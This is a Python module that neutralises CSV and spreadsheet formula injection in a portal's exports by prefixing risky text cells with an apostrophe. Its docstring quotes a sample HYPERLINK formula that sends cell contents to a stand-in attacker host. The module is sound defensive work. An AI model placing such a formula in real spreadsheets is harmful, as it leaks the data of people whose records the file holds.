"""Formula-safe cells for every spreadsheet and CSV the portal writes (ADR 0113).

A citizen's title such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` must open as text in the
Front's Excel, never as a live formula beside the submitters' phone numbers (CSV injection, OWASP). A text
cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheet programs read as "this is text". Real numbers (int, float, Decimal) and text that is only a
number (``-5``, ``+84912345678``) stay as they are: a number cannot run anything.
"""

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def spreadsheet_cell(value):
    """The value to write in a spreadsheet or CSV cell: text that could start a formula is neutralised."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def spreadsheet_row(values: Iterable) -> list:
    return [spreadsheet_cell(v) for v in values]
